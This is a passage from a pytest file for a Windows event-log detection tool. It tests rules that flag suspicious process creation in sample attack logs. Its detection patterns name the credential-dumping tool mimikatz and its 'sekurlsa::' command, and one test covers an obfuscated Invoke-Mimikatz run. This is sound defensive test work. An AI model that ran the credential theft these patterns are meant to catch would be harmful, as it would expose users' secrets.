        "image-outside-standard-folders",
        "image-in-restricted-folder",
        "restricted-substring",
    }
    for f in found:
        assert set(f) == {"rule", "severity", "record_id", "event_id", "computer", "time", "message"}
        assert f["record_id"] == 2815 and f["event_id"] == 4688 and f["computer"] == "WS01.contoso.local"
        assert f["time"] == "2015-11-12T02:25:00.0000000Z"
    (sub,) = [f for f in found if f["rule"] == "restricted-substring"]
    assert sub["severity"] == "high" and "'mimikatz', 'sekurlsa::'" in sub["message"]


def test_cli_findings_table_is_terminal_safe(attack_log: Path) -> None:
    status, out, _ = run_cli("findings", str(attack_log))
    assert status == 0
    assert "\x1b" not in out
    assert "3 finding(s):" in out and "restricted-substring" in out


def test_cli_rules_option_and_bad_rules_file(attack_log: Path, tmp_path: Path) -> None:
    good = tmp_path / "good.toml"
    good.write_text(
        "[rules.image-outside-standard-folders]\nenabled = false\n[rules.image-in-restricted-folder]\nenabled = false\n"
    )
    status, out, _ = run_cli("findings", "--json", "--rules", str(good), str(attack_log))
    assert status == 0 and [f["rule"] for f in json.loads(out)] == ["restricted-substring"]
    bad = tmp_path / "bad.toml"
    bad.write_text("[rules.restricted-substring]\nsubstrings = [\n")
    status, out, err = run_cli("findings", "--json", "--rules", str(bad), str(attack_log))
    assert status == 2 and out == ""
    assert f"{bad}:2: TOML syntax error" in err


def test_cli_unreadable_input_exit_1_others_processed(attack_log: Path, tmp_path: Path) -> None:
    empty = tmp_path / "empty.evtx"
    empty.write_bytes(b"")
    status, out, err = run_cli("findings", "--json", "--no-cache", str(empty), str(attack_log))
    assert status == 1
    assert "empty.evtx" in err
    assert any(f["rule"] == "restricted-substring" for f in json.loads(out))


# -- real logs --------------------------------------------------------------------------------


def _load_real(path: Path) -> list[StoredEvent]:
    try:
        from parsers.evtx import iter_events  # type: ignore[import-not-found,unused-ignore]
    except ImportError:
        from parsers.evtx.reference import iter_events
    events = [e for e in iter_events(str(path), 0) if isinstance(e, Event)]
    events.sort(key=lambda e: (e.filetime or 0, e.record_id or 0))
    return [StoredEvent(i, e) for i, e in enumerate(events)]


def _attack_4688_paths() -> list[str]:
    from tests.shared import SAMPLES

    manifest_file = SAMPLES / "MANIFEST.tsv"
    if not manifest_file.is_file():
        return ["<../shared missing>"]
    import csv

    with manifest_file.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh, delimiter="\t"))
    try:
        import parsers.evtx  # noqa: F401  (the fast loader: every attack log is affordable)

        fast = True
    except ImportError:
        fast = False  # the reference loader runs ~300 records/s: only the logs with 4688s
    return [
        r["path"]
        for r in rows
        if r["path"].startswith("evtx/attack/") and (fast or "4688" in json.loads(r["event_ids"] or "{}"))
    ]


@pytest.mark.slow
@pytest.mark.parametrize("relpath", _attack_4688_paths())
def test_findings_run_on_real_attack_logs(relpath: str) -> None:
    from tests.shared import sample

    stored = _load_real(sample(relpath))
    found = run_findings(stored, defaults())
    by_id = {s.id: s.event for s in stored}
    for f in found:
        assert f.rule in SPECS and f.message
        assert by_id[f.store_id].event_id == f.event_id
    if "mimikatz" in relpath.lower():
        flagged = {f.store_id for f in found if f.rule == "restricted-substring"}
        for s in stored:
            e = s.event
            if e.event_id != 4688:
                continue
            text = " ".join(e.get(k) or "" for k in ("NewProcessName", "ParentProcessName", "CommandLine"))
            text += " ".join(payload for _, payload in decoded_command_line(e.get("CommandLine") or ""))
            if "mimikatz" in text.lower():
                assert s.id in flagged, e.record_id


@pytest.mark.slow
def test_obfuscated_mimikatz_in_real_log_is_found() -> None:
    """CrackMapExec spells Invoke-Mimikatz as character codes; the rule still names it."""
    from tests.shared import sample

    rel = (
        "evtx/attack/TA0005-Defense Evasion__T1027-Obfuscated Files or Information__"
        "4624,4674,4688- CrackMap Exec SMB mimikatz.evtx"
    )
    found = [f for f in run_findings(_load_real(sample(rel)), defaults()) if f.rule == "restricted-substring"]
    assert len(found) == 2
    assert all("'mimikatz'" in f.message and "decoded from character codes" in f.message for f in found)
    assert {f.computer for f in found} == {"fs03vuln.offsec.lan"}
